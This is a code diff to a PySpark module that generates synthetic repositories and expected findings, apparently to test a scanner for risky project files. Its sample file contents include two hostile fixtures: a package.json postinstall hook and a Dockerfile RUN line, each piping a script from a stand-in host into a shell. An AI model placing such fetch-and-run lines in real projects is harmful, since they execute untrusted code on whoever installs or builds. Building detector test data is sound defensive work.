@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
 
 
 def _case(key: str, values: list[str]) -> str:
@@ -66,3 +67,40 @@ def table(spark: SparkSession, sf_dir: str, source: str, columns: dict[str, str]
 def sql(source: str, columns: dict[str, str]) -> str:
     """The same rows, as a sub-select."""
     return "(SELECT " + ", ".join(f"{e} AS {c}" for c, e in columns.items()) + f" FROM {source})"
+
+
+def dealt(spark: SparkSession, sf_dir: str, source: str, key: str, samples: list[tuple], columns: str) -> DataFrame:
+    """Row `key` of a table with the sample that its number points to: (repo_id, columns). Samples are a bounded list, so they are broadcast."""
+    rows = spark.read.parquet(f"{sf_dir}/{source}.parquet").select(F.col(key).cast("int").alias("repo_id"), (F.col(key) % len(samples)).cast("int").alias("k"))
+    return rows.join(F.broadcast(spark.createDataFrame([(k, *x) for k, x in enumerate(samples)], f"k int, {columns}")), "k").drop("k")
+
+
+def expected(source: str, key: str, samples: list[list[tuple]], columns: list[str]) -> str:
+    """SQL of the findings that dealt samples must give. samples: the findings of each."""
+    text = lambda x: "NULL" if x is None else str(x) if isinstance(x, int) else "'" + x.replace("'", "''") + "'"
+    values = ", ".join("(" + ", ".join([str(k), *map(text, f)]) + ")" for k, own in enumerate(samples) for f in own)
+    return f"SELECT CAST({key} AS INT) AS repo_id, {', '.join(columns)} FROM {source} JOIN (VALUES {values}) v(k, {', '.join(columns)}) ON {key} % {len(samples)} = k"
+
+
+# A repository of 24 files for every 24 documents: what is code or prose has the document's text and a sample below it,
+# other files are whole samples, of which each repository has the next.
+SCAN_FILES = 24
+SCAN_PATHS = [{"docs/guide.md": ".mcp.json", "notebooks/a.ipynb": "package-lock.json"}.get(p, p) for p in PATHS]
+WHOLE = {
+    "package.json": ['{"name": "x"}', '{"name": "x", "scripts": {"postinstall": "curl http://x.example.invalid/p | sh"}}', '{"name": "x", "scripts": {"prepare": "node vendor/lib.js"}}', '{"name": "x", "dependencies": {"react": "18", "express": "4", "ws": "8"}}', "{"],
+    ".mcp.json": ['{"mcpServers": {}}', '{"mcpServers": {"x": {"command": "node", "args": ["src/app.js"]}}}', '{"mcpServers": {"x": {"command": "npx", "args": ["-y", "@a/b"]}}}'],
+    "package-lock.json": ['{"packages": {}}', '{"packages": {"node_modules/a": {"resolved": "https://cdn.example.invalid/a.tgz"}}}'],
+    "yarn.lock": ["# yarn lockfile v1"],
+    ".github/workflows/ci.yml": ["on: push\nruns-on: self-hosted", "on: push"],
+    "Dockerfile": ["FROM node:20", "FROM node:20\nRUN curl -fsSL http://x.example.invalid/i.sh | bash"],
+    "CLAUDE.md": ["Be kind."],
+    "README.md": ["# Title"],
+}
+_escaped = lambda x: " || chr(10) || ".join("'" + part.replace("'", "''") + "'" for part in x.split("\n"))
+_cycle = lambda values: "CASE doc_id DIV 24 % {} {} END".format(len(values), " ".join(f"WHEN {i} THEN {_escaped(v)}" for i, v in enumerate(values)))
+SCAN_COLUMNS = {
+    "repo_id": "CAST(doc_id DIV 24 AS INT)",
+    "ord": "CAST(doc_id % 24 AS INT)",
+    "path": _case("doc_id", SCAN_PATHS),
+    "content": "CASE doc_id % 24 " + " ".join(f"WHEN {i} THEN {_cycle(WHOLE[p])}" for i, p in enumerate(SCAN_PATHS) if p in WHOLE) + f" ELSE coalesce(text, '') || chr(10) || {_case('doc_id', SNIPPETS)} END",
+}
